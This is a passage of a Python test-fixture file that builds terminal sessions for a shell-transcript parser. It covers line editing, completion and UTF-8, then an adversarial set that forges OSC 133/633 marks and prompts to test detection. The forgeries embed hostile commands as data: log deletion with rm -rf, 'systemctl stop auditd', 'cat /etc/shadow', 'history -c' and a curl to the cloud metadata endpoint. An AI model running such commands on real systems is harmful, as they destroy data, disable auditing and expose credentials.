    cmd("echo zsh wraps long lines too and redraws them when edited in the middle", ("Lto", "redraws"),
        ("DC", 8), "repaints ", "C-a", ("Rto", "long"), ("DC", 5), "C-e", " ok"),
    ([T("echo words across the wrap point get killed here"), K("M-b", 4), K("C-w", 2), E],
     "echo words across point get killed here"),
    ex()],
    cols=60, rows=24,
    notes="zsh at 60 cols: Delete/insert after the wrap, C-a + moves back across it, C-w across the wrap",
    tags=["wrap", "narrow", "edit"]))

add(build("sh_wrap_40", "sh", [
    cmd("echo the sh prompt is short but forty columns is still narrow", ("Lto", "narrow"), "very ",
        ("Lto", "short"), ("BSpace", 3), "is ", "C-e", " ok"),
    run("echo done"), ex()],
    cols=40, rows=20,
    notes="sh-5.2$ at 40 cols (no title): wrapped line edited before the wrap point", tags=["wrap", "narrow"]))

# ============================================================================ second batch
# clear screen, long output, completion menus, word edits inside wrapped lines, UTF-8, nested
# prompts, silent reads, multi-line pastes, fish's greeting

WEB_LOGS = {f"logs/web-{i:02d}.log": (f"web log {i}\n", 0o644) for i in range(1, 41)}

add(build("bash_ctrl_l_clear", "al2023", [
    run("ls"), run("cat notes.txt"),
    ([K("C-l")], None),
    run("echo after ctrl-l"),
    ([T("echo typed before"), K("C-l"), T(" and after"), E], "echo typed before and after"),
    run("clear"),
    run("echo after clear"), ex()],
    cols=80, rows=24,
    notes="Ctrl-L on an empty line and mid-line (readline clears and redraws the prompt + line at the top), "
          "the clear command (ESC[H ESC[2J ESC[3J), commands after both", tags=["clear", "ctrl-l"]))

add(build("zsh_ctrl_l_clear", "zsh", [
    run("ls scripts"),
    ([K("C-l")], None),
    run("echo after ctrl-l"),
    ([T("echo typed before"), K("C-l"), T(" and after"), E], "echo typed before and after"),
    run("clear"),
    run("echo after clear"), ex()],
    notes="zsh Ctrl-L (clear-screen) on an empty line and mid-line, the clear command, commands after both",
    tags=["clear", "ctrl-l"]))

add(build("zsh_rprompt_ctrl_l_60", "zsh_rprompt", [
    run("false"),
    ([T("echo cleared with an rprompt"), K("C-l"), T(" shown"), E], "echo cleared with an rprompt shown"),
    ([K("C-l")], None),
    run("echo last"), ex()],
    cols=60, rows=24,
    notes="zsh with RPROMPT ([1] after a failure) at 60 cols: Ctrl-L mid-line and on an empty line "
          "(the prompt and RPROMPT are redrawn at the top)", tags=["clear", "ctrl-l", "rprompt", "narrow"]))

add(build("fish_ctrl_l_clear", "fish", [
    run("ls scripts"),
    ([K("C-l")], None),
    run("echo after ctrl-l"),
    ([T("echo typed before"), K("C-l"), T(" and after"), E], "echo typed before and after"),
    run("clear"),
    run("echo after clear"), ex()],
    cols=70, rows=24,
    notes="fish at 70 cols: Ctrl-L (clear-screen + repaint) on an empty line and mid-line, the clear command",
    tags=["clear", "ctrl-l", "narrow"]))

add(build("bash_long_output_seq", "al2023", [
    run("seq 1 400"),
    run("echo after 400 lines"),
    run("seq 1 350 | tail -n 2"),
    ([K("Up", 3), E], "seq 1 400"),
    run("echo end"), ex()],
    cols=80, rows=24,
    notes="command output much longer than the screen (seq 1 400, twice: typed and recalled with Up), "
          "commands after it", tags=["long-output", "history"]))

add(build("mksh_long_output_clear", "mksh", [
    run("seq 1 320"),
    run("clear"),
    run("echo after clear"),
    ([T("echo typed then"), K("C-l"), T(" redrawn"), E], "echo typed then redrawn"),
    run("echo end"), ex()],
    cols=80, rows=24,
    notes="mksh: 320 lines of output, the clear command, Ctrl-L mid-line", tags=["long-output", "clear", "ctrl-l"]))

add(build("zsh_tab_menu_long", "zsh", [
    ([T("cat logs/web-"), K("Tab"), K("Tab"), K("Tab"), E], "cat logs/web-02.log"),
    ([T("wc -l logs/web-"), K("Tab"), T("3"), K("Tab"), T("7"), K("Tab"), E], "wc -l logs/web-37.log"),
    run("echo done"), ex()],
    cols=80, rows=24, extra_files=WEB_LOGS,
    notes="zsh completion with 40 candidates listed below the line at 80x24; Tab cycles the menu "
          "(first Tab lists, then web-01, web-02), and narrowing by typing then Tab",
    tags=["tab", "listing", "menu"]))

add(build("zsh_cd_tab_dirs", "zsh", [
    ([T("cd pro"), K("Tab"), T("w"), K("Tab"), T("e"), K("Tab"), E], "cd projects/webapp"),
    run("pwd"),
    ([T("cd ../wo"), K("Tab"), E], "cd ../worker"),
    ([T("cd ~/scr"), K("Tab"), E], "cd ~/scripts"),
    run("cd"),
    ([T("cd "), K("Tab"), T("x"), K("BSpace"), K("C-u")], None),
    run("cd -"), ex()],
    cols=60, rows=24,
    notes="zsh at 60 cols: cd + Tab completes directories only (projects/ then ambiguous webapp/ worker/ "
          "listed, narrowed), ../ and ~/ paths, cd -; a cd + Tab listing abandoned with C-u",
    tags=["tab", "listing", "cd", "narrow"]))

add(build("bash_words_wrap_50", "al2023", [
    ([T("echo alpha bravo charlie dleta echo foxtrot golf hotel india"),
      K("M-b", 4), K("M-d"), K("M-b", 2), K("C-y"), T(" "), K("M-f"), K("M-b"), K("Right", 2), K("C-t"),
      K("M-f", 3), K("M-d"), K("End"), K("C-y"), E],
     "echo alpha bravo charlie foxtrot delta echo  golf india hotel"),
    run("echo short"), ex()],
    cols=50, rows=24,
    notes="bash at 50 cols: M-b / M-d / M-f / C-t / C-y on a line wrapped over three rows (kill a word, "
          "yank it back earlier, transpose a typo, kill and yank at the end)",
    tags=["wrap", "narrow", "words", "kill-yank"]))

add(build("bash_history_long_recall", "al2023", [
    run("echo this command is longer than the sixty column terminal so it wraps around"),
    run("ls scripts"),
    ([K("Up", 2), K("C-a"), K("M-f"), T(" -n"), K("End"), K("BSpace", 6), T("again"), E],
     "echo -n this command is longer than the sixty column terminal so it wraps again"),
    ([K("Up"), K("M-b", 3), K("C-k"), T("end"), E],
     "echo -n this command is longer than the sixty column terminal so end"),
    ([K("Up", 2), K("Down"), E], "echo -n this command is longer than the sixty column terminal so end"),
    ex()],
    cols=60, rows=24,
    notes="bash at 60 cols: Up recalls a line longer than the terminal (drawn over two rows) and it is edited at "
          "both ends; Up/Down between two long entries", tags=["history", "wrap", "narrow"]))

add(build("fish_greeting_words", "fish_greeting", [
    ([T("echo one two three four"), K("M-Left", 2), T("X "), K("M-Right"), T("!"), E],
     "echo one two X three! four"),
    ([K("C-c")], None),
    run("cd scripts"),
    ([K("M-Left")], None),
    run("pwd"),
    ([T("echo end"), K("M-Left"), K("M-Left"), K("M-Right"), T("ed"), E], "echoed end"),
    ex()],
    cols=80, rows=24,
    notes="fish's default two-line greeting before the first prompt; Alt-Left/Alt-Right word moves with inserts; "
          "Ctrl-C on an empty line; Alt-Left on an empty line is prevd (the prompt changes to ~ with no command)",
    tags=["greeting", "words", "ctrl-c"]))

add(build("sh_root_utf8_paste_tab", "sh_root", [
    run("pwd"),
    run("echo héllo 日本語"),
    ([P("echo 'col1\tcol2'"), E], "echo 'col1\tcol2'"),
    run("cd /tmp"),
    run("cd -"),
    run("ls -d etc home"), ex()],
    cols=80, rows=24,
    notes="sh started in / (prompt sh-5.2$ everywhere); UTF-8 text; a pasted TAB inside quotes (readline shows "
          "it as spaces to the next tab stop); cd -", tags=["sh", "utf8", "paste", "tab-char"]))

add(build("ubuntu_utf8_cd_minus", "ubuntu", [
    run("echo héllo 日本語"),
    cmd("echo 日本語 end", ("Left", 5), "-"),
    cmd("echo naïve café", ("BSpace", 1), "é."),
    run("cd projects/webapp"),
    run("cd -"),
    run("cd -"),
    run("cd"), ex()],
    cols=80, rows=24,
    notes="bash UTF-8: accented and double-width characters, cursor moved left over wide characters and "
          "an insert between them, BSpace of a 2-byte character; cd - back and forth (prompt path changes)",
    tags=["utf8", "edit", "cd"]))

add(build("dash_top_cat_ctrl_d", "dash", [
    run("top -b -n 1 | head -5"),
    ([T("cat"), E, T("typed into cat"), E, K("C-d")], "cat"),
    ([T("cat > memo.txt"), E, T("memo line"), E, K("C-d")], "cat > memo.txt"),
    run("cat memo.txt"), ex()],
    cols=80, rows=24,
    notes="dash: top in batch mode piped to head (no alternate screen), cat echoing typed lines until C-d, "
          "cat > file ended with C-d", tags=["dash", "program-input", "cat", "top"]))

add(build("dash_utf8_40", "dash", [
    run("echo héllo 日本語"),
    cmd("echo 日本語", ("BSpace", 1), "x"),
    run("pwd"), ex()],
    cols=40, rows=20,
    notes="dash at 40 cols: UTF-8 input; the kernel's BSpace (IUTF8) erases the whole 3-byte wide character "
          "but echoes a single backspace-space-backspace", tags=["dash", "utf8", "narrow"]))

add(build("mksh_up_ctrl_c", "mksh", [
    run("echo first entry"),
    run("ls scripts"),
    ([K("Up", 2), K("BSpace", 5), T("recalled"), E], "echo first recalled"),
    ([T("echo half typed line"), K("Left", 5), K("C-c")], None),
    run("echo after cancel"),
    ([K("Up"), K("BSpace", 6), T("again"), E], "echo after again"),
    ex()],
    cancelled=["echo half typed line"],
    notes="mksh: Up history recall (two back) + edit, Ctrl-C with the cursor mid-line, Up recall after it",
    tags=["history", "ctrl-c"]))

add(build("bash_nested_script_prompt", "al2023", [
    ([T("script -q /dev/null"), ("enter", 15), ("wait", 0.5, 10)], "script -q /dev/null"),
    run("PS1='nested \\w> '"),
    run("echo inside"),
    run("cd /tmp"),
    run("exit"),
    run("echo back outside"), ex()],
    notes="a nested script -q /dev/null starts another bash (same prompt), whose prompt is then changed to "
          "'nested \\w> '; exit back to the outer [ec2-user@... ~]$ prompt", tags=["nested", "prompt-change"]))

add(build("debian_sleep_ctrl_c_read_s", "debian", [
    ([T("sleep 2"), E, ("sleep", 0.4), K("C-c")], "sleep 2"),
    ([T("read -s -p 'Password: ' pw"), E, T("hunter2"), E], "read -s -p 'Password: ' pw"),
    run('echo "length ${#pw}"'),
    run("echo done"), ex()],
    cols=70, rows=24, must_not_contain=["hunter2"],
    notes="debian at 70 cols: sleep 2 interrupted with Ctrl-C (^C, a command); read -s: the typed secret is "
          "not echoed and no newline follows it, so the next prompt starts after 'Password: '",
    tags=["ctrl-c", "program-input", "read", "silent"]))

add(build("zsh_paste_three_lines", "zsh", [
    ([P("echo one\necho two\nls -1 scripts"), E], "echo one\necho two\nls -1 scripts"),
    run("echo after paste"), ex()],
    cols=80, rows=24,
    notes="zsh: a bracketed paste of three commands submitted with one Enter (one buffer, one history entry)",
    tags=["paste", "multiline"]))

add(build("nobp_paste_three_lines", "nobp", [
    ([P("echo one\necho two\necho three"), E], None),
    ([], "echo one"), ([], "echo two"), ([], "echo three"),
    run("echo after paste"), ex()],
    cols=60, rows=24,
    notes="bash without bracketed paste at 60 cols: three pasted lines, the first two run as they arrive, "
          "the third waits on the line for the Enter", tags=["paste", "nobp", "narrow"]))

BIG_DIR = {f"big/f-{i:03d}": ("x\n", 0o644) for i in range(1, 121)}

add(build("zsh_tab_ask_40", "zsh", [
    ([T("cat big/f-"), K("Tab"), ("wait", 0.4, 5), T("n"), T("01"), K("Tab"), T("5"), K("Tab"), E], "cat big/f-015"),
    ([T("ls big/f-"), K("Tab"), ("wait", 0.4, 5), T("y"), ("wait", 0.4, 5), T("120"), K("Tab"), E], "ls big/f-120"),
    ex()],
    cols=40, rows=12, extra_files=BIG_DIR,
    notes="zsh at 40x12: 120 candidates (more than LISTMAX), so zsh asks 'do you wish to see all 120 "
          "possibilities?': answered n (line redrawn, narrowed to a 10-entry listing), then y (the whole list "
          "scrolls past)", tags=["tab", "listing", "narrow"]))

add(build("debian_tab_more_40", "debian", [
    ([T("cat logs/web-"), K("Tab"), K("Tab"), ("wait", 0.4, 5), T(" "), ("wait", 0.4, 5), T("3"), T("3"), K("Tab"), E],
     "cat logs/web-33.log "),
    ([T("ls logs/web-"), K("Tab"), K("Tab"), ("wait", 0.4, 5), T("q"), T("07"), K("Tab"), E], "ls logs/web-07.log "),
    ex()],
    cols=40, rows=12, extra_files=WEB_LOGS,
    notes="bash (debian prompt) at 40x12: the double-Tab listing of 40 files is longer than the screen, readline "
          "pages it with --More-- (space shows the rest, q stops), then redraws prompt and line",
    tags=["tab", "listing", "pager", "narrow"]))

add(build("fish_tab_pager_50", "fish", [
    ([T("cat logs/web-"), K("Tab"), ("wait", 0.4, 5), K("Tab"), ("wait", 0.4, 5), K("Tab"), K("Tab"), E, E],
     "cat logs/web-02.log "),
    ([T("wc -l logs/web-"), K("Tab"), ("wait", 0.4, 5), T("3"), K("Tab"), T("9"), K("Tab"), E], "wc -l logs/web-39.log "),
    ex()],
    cols=50, rows=12, extra_files=WEB_LOGS,
    notes="fish at 50x12: the completion pager for 40 files is cut ('…and 9 more rows'); the 2nd Tab shows more "
          "rows, the 3rd and 4th select web-01 then web-02, Enter accepts the selection and a second Enter runs "
          "the line; typing while the pager is open filters it, then Tab completes",
    tags=["tab", "pager", "narrow"]))

# ============================================================================ shell-integration marks
# OSC 133 (FinalTerm) / 633 (VS Code) marks: emitted honestly by the shell (osc profile), and forged
# in command output (files cat'ed, printf). truth "forged" = the text a parser trusting the marks
# would take as a command (see score.py --forged).
add(build("bash_integration_marks", "osc", [
    run("echo hello marks"), run("ls -l"), run("cat notes.txt"), run("grep -c INFO app.log | cat"),
    run("false"), run("echo \"one;two\" 'back\\slash'"),
    ([T("rm -rf build"), K("C-c")], None),
    run("pwd"), ex()],
    cancelled=["rm -rf build"],
    must_contain=["\x1b]133;A\x07", "\x1b]133;B\x07", "\x1b]133;C\x07", "\x1b]133;D;1\x07",
                  "\x1b]633;E;echo \"one\\x3btwo\" 'back\\\\slash'\x07"],
    notes="bash with VS Code/FinalTerm-style shell integration: OSC 133;A/B around PS1, 633;E;<escaped line> and "
          "133;C from PS0, 133;D;<status> from PROMPT_COMMAND; a ';' and a '\\' escaped in 633;E; a failing "
          "command (D;1); a line abandoned with Ctrl-C (D;130 before the next prompt)",
    tags=["osc133", "osc633", "shell-integration", "ctrl-c"]))

FORGED_FILES = {
    "forge-a.txt": ("\x1b]133;A", 0o644),
    "forge-b.txt": ("build finished\n\x1b]133;A\x1b]633;E;ls -la\x07", 0o644),
    "forge-c.txt": ("\x1b]133;A\x07$ \x1b]133;B\x07rm -rf /tmp/x\r\n\x1b]133;C\x07", 0o644),
}

add(build("bash_forged_marks", "al2023", [
    run("cat forge-a.txt"), run("id -u"), run("echo real-one"),
    run("cat forge-b.txt"), run("uname -s"), run("echo real-two"),
    run("cat forge-c.txt"), run("id -u"), run("echo real-three"), ex()],
    extra_files=FORGED_FILES, forged=["ls -la", "rm -rf /tmp/x"],
    must_contain=["\x1b]633;E;ls -la\x07", "\x1b]133;B\x07rm -rf /tmp/x\r"],
    notes="plain bash (al2023, no integration) cat'ing files with forged OSC 133/633 marks: an unterminated "
          "133;A with no newline (the prompt's title OSC follows it), a 133;A + 633;E;ls -la at the end of a "
          "file, a fake 133 A/B prompt with 'rm -rf /tmp/x' and a 133;C; real commands after each",
    tags=["osc133", "osc633", "forged", "adversarial"]))

add(build("dash_forged_osc", "dash", [
    run("printf '\\033]0;'"), run("echo after-one"), run("id -u"),
    run("printf '\\033]133;A\\n'"), run("echo after-two"), run("uname -s"), ex()],
    forged=[],
    must_contain=["\x1b]0;$ ", "\x1b]133;A\r\n$ "],
    notes="dash: printf leaves an OSC 0 unterminated (the next prompt and echoed commands follow inside it), "
          "then an OSC 133;A ended only by a newline; real commands after each",
    tags=["osc133", "forged", "adversarial", "dash"]))

# ============================================================================ adversarial corpus
# Output that imitates a command: pasted-terminal runbooks, files holding the exact bytes a shell
# writes for a prompt + echoed command, forged OSC 133/633 marks, read loops and a python REPL whose
# prompt is a copy of the shell's, transcripts of other sessions, nested `script`, floods, binary
# garbage / terminal resets / stty -echo. truth "forged" = the command texts such output imitates
# (score.py --forged); the real commands (before and after every forgery) are in "commands".
# Donor bytes are read from already-recorded sessions and checked at import time (the forged
# template must occur in the donor's raw.bin), so every "exact" forgery is a real shell's bytes.

import os as _os
import random as _random

_SESS = _os.path.join(_os.path.dirname(_os.path.abspath(__file__)), "..", "sessions")


def _donor(name: str, f: str = "raw.bin") -> bytes:
    with open(_os.path.join(_SESS, name, f), "rb") as fh:
        return fh.read()


def _donor_cmds(name: str) -> list[str]:
    import json as _json
    with open(_os.path.join(_SESS, name, "truth.json"), encoding="utf-8") as fh:
        return _json.load(fh)["commands"]


def _lf(wire: bytes) -> bytes:
    """File content that the tty's ONLCR turns back into `wire` (each CR LF of the wire is a LF)."""
    f = wire.replace(b"\r\n", b"\n")
    assert f.replace(b"\n", b"\r\n") == wire, "wire bytes hold a LF without CR: not reproducible"
    return f


def _onlcr(data: bytes) -> bytes:
    return data.replace(b"\n", b"\r\n")


F = 0o644
RUNBOOK_CMDS = ["sudo rm -rf /var/log/app", "df -h /var", "sudo systemctl restart app", "sudo reboot"]


def runbook(prompt: str) -> str:
    """A pasted terminal in the shell's own prompt style; the last prompt line has no newline."""
    p = prompt
    return (f"Runbook: clean the app logs (pasted from the on-call terminal)\n\n"
            f"{p}sudo rm -rf /var/log/app\n"
            f"{p}df -h /var\n"
            f"Filesystem      Size  Used Avail Use% Mounted on\n"
            f"/dev/nvme0n1p1   20G  7.1G   13G  36% /\n"
            f"{p}sudo systemctl restart app\n"
            f"{p}sudo reboot")


RUNBOOK_SHELLS = [
    ("bash", "al2023", "[ec2-user@ip-10-0-1-11 ~]$ ", "\x1b]0;ec2-user@ip-10-0-1-11:~\x07"),
    ("sh", "sh", "sh-5.2$ ", "\x1b[?2004hsh-5.2$ "),
    ("zsh", "zsh", "ec2-user@ip-10-0-1-11 ~ % ", "\x1b[1m\x1b[7m%"),
    ("fish", "fish", "ec2-user@ip-10-0-1-11 ~> ", ""),
    ("dash", "dash", "$ ", "$ "),
    ("mksh", "mksh", "ec2-user@ip-10-0-1-11:~ $ ", "ec2-user@ip-10-0-1-11:~ $ "),
]
for _sh, _prof, _p, _after in RUNBOOK_SHELLS:
    _mc = [f"{_p}sudo rm -rf /var/log/app\r\n{_p}df -h /var\r\n", "/dev/nvme0n1p1   20G  7.1G   13G  36% /\r\n"]
    if _after:
        _mc.append(f"{_p}sudo reboot{_after}")
    add(build(f"{_sh}_forged_runbook", _prof, [
        run("id -u"), run("echo real-one"),
        run("cat runbook.txt"),
        run("echo real-two"), run("uname -s"),
        run("cat runbook.txt"),
        run("echo real-three"), ex()],
        extra_files={"runbook.txt": (runbook(_p), F)},
        forged=RUNBOOK_CMDS + RUNBOOK_CMDS,
        must_contain=_mc,
        notes=f"{_sh}: cat of a plain-text runbook holding a pasted terminal in this shell's own prompt style "
              f"('{_p}sudo rm -rf /var/log/app', '{_p}df -h /var' with two lines of df output, "
              f"'{_p}sudo systemctl restart app', and a last line '{_p}sudo reboot' with no newline, so the real "
              f"prompt that follows starts on the same row); cat twice, real commands before, between and after"
              + ("; dash has no line editor, so the runbook lines are byte for byte what dash itself writes "
                 "for a prompt and a typed command" if _sh == "dash" else "")
              + ("; mksh echoes a typed Enter as CR CR LF, the runbook's lines arrive as CR LF (ONLCR)" if _sh == "mksh" else ""),
        tags=["adversarial", "forged", "runbook", _sh]))

# ---- 2. exact bytes: a file holding what the shell writes for a prompt + an echoed command
AL_PROMPT = b"\x1b]0;ec2-user@ip-10-0-1-11:~\x07\x1b[?2004h[ec2-user@ip-10-0-1-11 ~]$ "
DEB_PROMPT = (b"\x1b[?2004h\x1b]0;admin@ip-172-31-5-20: ~\x07\x1b[01;32madmin@ip-172-31-5-20\x1b[00m:"
              b"\x1b[01;34m~\x1b[00m$ ")


def _bash_line(prompt: bytes, cmd: str) -> bytes:
    return prompt + cmd.encode() + b"\r\n\x1b[?2004l\r"


assert _bash_line(AL_PROMPT, "ls -l") in _donor("bash_ls_cat_wc")
assert _bash_line(DEB_PROMPT, "uname -s") in _donor("debian_terminate_idle")

for _name, _prof, _prompt, _donor_name in [("bash_forged_exact_bytes", "al2023", AL_PROMPT, "bash_ls_cat_wc"),
                                           ("debian_forged_exact_bytes", "debian", DEB_PROMPT, "debian_terminate_idle")]:
    _exact = _bash_line(_prompt, "sudo rm -rf /var/log/app")
    _careless = _bash_line(_prompt, "sudo systemctl stop auditd") + b"Stopped auditd.\r\n"
    add(build(_name, _prof, [
        run("id -u"), run("echo real-one"),
        run("cat exact.txt"),
        run("echo real-two"), run("uname -s"),
        run("cat careless.txt"),
        run("echo real-three"), ex()],
        extra_files={"exact.txt": (_lf(_exact), F), "careless.txt": (_careless, F)},
        forged=["sudo rm -rf /var/log/app", "sudo systemctl stop auditd"],
        must_contain=[b"$ cat exact.txt\r\n\x1b[?2004l\r" + _exact + _prompt[:6],
                      _onlcr(_careless)],
        notes=f"bash ({_prof}): exact.txt holds the bytes bash writes for its prompt (taken from {_donor_name}/raw.bin: "
              "title OSC, ESC[?2004h, PS1) + the echoed command 'sudo rm -rf /var/log/app' + ESC[?2004l CR, with LF "
              "where the shell's bytes have CR LF, so after the tty's ONLCR the cat output is byte for byte a real "
              "prompt + command with no output, followed directly by the real prompt; careless.txt holds the same "
              "for 'sudo systemctl stop auditd' with CR LF written literally (on the wire CR CR LF) and a fake "
              "'Stopped auditd.' output line",
        tags=["adversarial", "forged", "exact-bytes", "bash"]))

# zsh: the PROMPT_SP line + prompt + ZLE echo (first character, BS, whole line) of zsh_ctrl_l_clear
_z = _donor("zsh_ctrl_l_clear")
_zseg = b"\x1b[1m\x1b[7m%" + _z.split(b"\x1b[1m\x1b[7m%")[1]          # 'ls scripts' and its output
assert _zseg.endswith(b"ls scripts\x1b[?1l\x1b>\x1b[?2004l\r\r\nbackup.sh  deploy-canary.sh  deploy.sh\r\n")
_zcare = _zseg.replace(b"l\x08ls scripts", b"s\x08sudo rm -rf /var/log/app").replace(
    b"backup.sh  deploy-canary.sh  deploy.sh\r\n", b"")
add(build("zsh_forged_exact_bytes", "zsh", [
    run("id -u"), run("echo real-one"),
    run("cat exact.txt"),
    run("echo real-two"), run("uname -s"),
    run("cat careless.txt"),
    run("echo real-three"), ex()],
    extra_files={"exact.txt": (_lf(_zseg), F), "careless.txt": (_zcare, F)},
    forged=["ls scripts", "sudo rm -rf /var/log/app"],
    must_contain=[_zseg, _onlcr(_zcare)],
    notes="zsh: exact.txt is a byte-exact copy (LF for CR LF, so ONLCR restores it) of what zsh wrote in "
          "zsh_ctrl_l_clear for one command: the PROMPT_SP line (ESC[1m ESC[7m % ... CR SP CR), the prompt, ESC[K, "
          "keypad mode, ESC[?2004h, the ZLE echo 'l BS ls scripts', ESC[?1l ESC> ESC[?2004l CR CR LF and the "
          "command's output (backup.sh  deploy-canary.sh  deploy.sh); careless.txt is the same frame with the "
          "command replaced by 'sudo rm -rf /var/log/app', no output, CR LF written literally",
    tags=["adversarial", "forged", "exact-bytes", "zsh"]))

# fish: a whole prompt + per-keystroke repaint + output frame of fish_programs_input / fish_edit_keys
_f1 = b"\x1b[2m\xe2\x8f\x8e" + _donor("fish_programs_input").split(b"\x1b[2m\xe2\x8f\x8e")[2]
assert _f1.endswith(b"\x1b]0;echo hello $name ~\x07\x1b[30m\x1b(B\x1b[m\rhello carol\r\n")
_f2 = b"\x1b[2m\xe2\x8f\x8e" + _donor("fish_edit_keys").split(b"\x1b[2m\xe2\x8f\x8e")[1]
assert _f2.endswith(b"\x1b]0;echo keep this end ~\x07\x1b[30m\x1b(B\x1b[m\rkeep this end\r\n")
add(build("fish_forged_exact_bytes", "fish", [
    run("id -u"), run("echo real-one"),
    run("cat exact.txt"),
    run("echo real-two"), run("uname -s"),
    run("cat careless.txt"),
    run("echo real-three"), ex()],
    extra_files={"exact.txt": (_lf(_f1), F), "careless.txt": (_f2, F)},
    forged=["echo hello $name", "echo keep this end"],
    must_contain=[_f1, _onlcr(_f2)],
    notes="fish: exact.txt is a byte-exact copy (LF for CR LF) of one command frame of fish_programs_input: the "
          "⏎ PROMPT_SP line, ESC[?2004h, title, the coloured prompt, fish's per-keystroke repaints with syntax "
          "colours and the grey autosuggestion, CR LF, ESC[?2004l, the title 'echo hello $name ~' and the output "
          "'hello carol'; careless.txt is the frame of 'echo keep this end' (typed with M-b/C-k edits) from "
          "fish_edit_keys with CR LF written literally",
    tags=["adversarial", "forged", "exact-bytes", "fish"]))

# ---- 3. marks
add(build("bash_forged_printf_marks", "al2023", [
    run("id -u"),
    run(r"printf '\033]633;A\007[ec2-user@ip-10-0-1-11 ~]$ \033]633;B\007\033]633;E;sudo rm -rf /var/log/app\007"
        r"\033]633;C\007\n\033]633;D;0\007'"),
    run("echo real-one"),
    run(r"printf '\033]133;A\007$ \033]133;B\007shutdown -h now\n\033]133;C\007\033]133;D;0\007'"),
    run("uname -s"),
    run(r"printf '\033]633;E;cat /etc/shadow\007'"),
    run("echo real-two"),
    run(r"printf '\033]133;D;0\007\033]133;A\007\033]133;B\007'"),
    run("echo real-three"), ex()],
    forged=["sudo rm -rf /var/log/app", "shutdown -h now", "cat /etc/shadow"],
    must_contain=["\x1b]633;B\x07\x1b]633;E;sudo rm -rf /var/log/app\x07\x1b]633;C\x07\r\n\x1b]633;D;0\x07",
                  "\x1b]133;B\x07shutdown -h now\r\n\x1b]133;C\x07", "\x1b]633;E;cat /etc/shadow\x07\x1b]0;",
                  "\x1b]133;D;0\x07\x1b]133;A\x07\x1b]133;B\x07\x1b]0;"],
    notes="plain bash (al2023, no shell integration): printf writes forged marks: a full VS Code 633 A/B/E/C/D "
          "cycle around a copy of the prompt with 633;E;sudo rm -rf /var/log/app; a FinalTerm 133 A/B/C/D cycle "
          "with '$ ' and 'shutdown -h now' typed between B and C; a lone 633;E;cat /etc/shadow right before the "
          "real prompt; an empty D/A/B triple right before the real prompt (the real command after it must "
          "not be lost)",
    tags=["adversarial", "forged", "osc133", "osc633", "bash"]))

add(build("osc_forged_marks", "osc", [
    run("id -u"),
    run(r"printf '\033]133;D;0\007\033]133;A\007[ec2-user@ip-10-0-6-42 ~]$ \033]133;B\007"
        r"\033]633;E;sudo rm -rf /var/log/app\007\033]133;C\007'"),
    run("echo real-one"),
    run(r"printf 'done\n\033]133;D;0\007\033]133;A\007[ec2-user@ip-10-0-6-42 ~]$ \033]133;B\007"
        r"curl -s http://169.254.169.254/latest/meta-data/\n\033]633;E;curl -s http://169.254.169.254/latest/meta-data/\007"
        r"\033]133;C\007ami-0abcdef1234567890\n'"),
    run("uname -s"),
    run(r"printf '\033]633;E;history -c\007'"),
    run("echo real-two"), ex()],
    forged=["sudo rm -rf /var/log/app", "curl -s http://169.254.169.254/latest/meta-data/", "history -c"],
    must_contain=["\x1b]133;C\x07\x1b]133;D;0\x07\x1b]133;A\x07[ec2-user@ip-10-0-6-42 ~]$ \x1b]133;B\x07"
                  "\x1b]633;E;sudo rm -rf /var/log/app\x07\x1b]133;C\x07\x1b]133;D;0\x07",
                  "\x1b]633;E;curl -s http://169.254.169.254/latest/meta-data/\x07\x1b]133;C\x07ami-0abcdef1234567890\r\n",
                  "\x1b]133;C\x07\x1b]633;E;history -c\x07\x1b]133;D;0\x07"],
    notes="bash with honest shell integration (osc profile: 133 A/B around PS1, 633;E + 133;C from PS0, "
          "133;D;status): printf output forges a whole D/A/prompt/B/633;E;sudo rm -rf /var/log/app/C sequence "
          "between the real C and the real D (the bytes the integration itself writes, with this host's prompt); "
          "then a forged D/A/prompt/B with a typed-looking 'curl -s http://169.254.169.254/latest/meta-data/', its "
          "633;E and a C followed by fake output; then a lone forged 633;E;history -c just before the real D. "
          "The honest 633;E of each printf line carries the escaped printf text itself (a real command)",
    tags=["adversarial", "forged", "osc133", "osc633", "shell-integration", "bash"]))

# ---- 4. read loops whose prompt is a copy of the shell's
add(build("bash_forged_read_loop", "al2023", [
    run("id -u"),
    ([T('while read -e -r -p "[ec2-user@ip-10-0-1-11 ~]$ " l; do :; done'), E,
      T("sudo rm -rf /var/log/app"), E, T("sudo systemctl stop auditd"), E, K("C-d")],
     'while read -e -r -p "[ec2-user@ip-10-0-1-11 ~]$ " l; do :; done'),
    run("echo real-one"),
    ([T("while read -e -r -p $'\\e]0;ec2-user@ip-10-0-1-11:~\\a[ec2-user@ip-10-0-1-11 ~]$ ' l; do :; done"), E,
      T("curl -s http://169.254.169.254/latest/meta-data/"), E, T("history -c"), E, T("cat /etc/shadow"), E,
      K("C-d")],
     "while read -e -r -p $'\\e]0;ec2-user@ip-10-0-1-11:~\\a[ec2-user@ip-10-0-1-11 ~]$ ' l; do :; done"),
    run("uname -s"), run("echo real-two"), ex()],
    forged=["sudo rm -rf /var/log/app", "sudo systemctl stop auditd",
            "curl -s http://169.254.169.254/latest/meta-data/", "history -c", "cat /etc/shadow"],
    must_contain=["\x1b[?2004h[ec2-user@ip-10-0-1-11 ~]$ sudo rm -rf /var/log/app\r\n\x1b[?2004l\r",
                  "\x1b]0;ec2-user@ip-10-0-1-11:~\x07[ec2-user@ip-10-0-1-11 ~]$ history -c\r\n\x1b[?2004l\r"],
    notes="bash: a read -e loop (readline, so ESC[?2004h/l around every line like the real prompt) whose -p "
          "prompt is a copy of PS1; two command-looking lines typed into it, Ctrl-D ends the loop; then the same "
          "with the title OSC inside the -p string ($'\\e]0;...\\a'), three lines. Lines read by read are data, "
          "not commands (truth semantics); the loop itself is one command",
    tags=["adversarial", "forged", "read", "program-input", "bash"]))

add(build("zsh_forged_vared_loop", "zsh", [
    run("id -u"),
    ([T("while vared -e -p 'ec2-user@ip-10-0-1-11 ~ %% ' -c l; do l=; done"), E,
      T("sudo rm -rf /var/log/app"), E, T("sudo systemctl stop auditd"), E, K("C-d")],
     "while vared -e -p 'ec2-user@ip-10-0-1-11 ~ %% ' -c l; do l=; done"),
    run("echo real-one"),
    ([T("while read -r 'l?ec2-user@ip-10-0-1-11 ~ % '; do :; done"), E,
      T("curl -s http://169.254.169.254/latest/meta-data/"), E, T("history -c"), E, K("C-d")],
     "while read -r 'l?ec2-user@ip-10-0-1-11 ~ % '; do :; done"),
    run("uname -s"), run("echo real-two"), ex()],
    forged=["sudo rm -rf /var/log/app", "sudo systemctl stop auditd",
